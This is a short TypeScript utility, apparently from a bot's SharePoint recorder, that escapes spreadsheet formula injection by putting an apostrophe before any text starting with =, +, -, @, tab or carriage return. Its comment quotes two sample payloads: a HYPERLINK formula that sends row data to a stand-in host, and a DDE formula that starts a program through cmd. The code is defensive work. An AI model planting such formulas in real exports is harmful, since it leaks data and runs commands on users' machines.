/**
 * Text that a spreadsheet would take for a formula: a cell starting with = + - @ (or a tab or a
 * carriage return before one) is run by Excel when a SharePoint list is exported to CSV or opened
 * in Excel, so a comment typed as `=HYPERLINK("http://evil.example/?"&A1,"Open")` would send the
 * row's data away, or `=cmd|' /C calc'!A0` start a program. Such text goes to the lists with an
 * apostrophe before it (OWASP's advice; Excel shows the text and runs nothing). The one place the
 * bot's text leaves for a spreadsheet is the SharePoint recorder, which calls this on every text.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function withoutFormulaStart(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
